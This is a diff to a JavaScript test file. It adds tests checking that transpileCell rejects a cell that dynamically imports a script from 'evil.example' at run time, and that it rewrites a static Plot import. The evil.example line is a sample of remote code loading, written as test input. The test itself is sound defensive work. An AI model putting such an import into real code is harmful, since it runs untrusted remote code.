@@ -56,3 +56,11 @@ test("transpileCell(source) reports columns from 1 for errors found after type s
     expect((error as CellSyntaxError).column).toBe(7);
   }
 });
+
+test("transpileCell(source) refuses import(…) at run time, naming its line", () => {
+  expect(() => transpileCell('const a = 1;\nconst m = await import("https://evil.example/x.js");')).toThrow(expect.objectContaining({ name: "SyntaxError", line: 2, column: 17 }));
+});
+
+test("transpileCell(source) lets a cell import Plot", () => {
+  expect(transpileCell('import * as Plot from "@observablehq/plot";\nPlot')).toContain('const Plot = __import("@observablehq/plot");');
+});
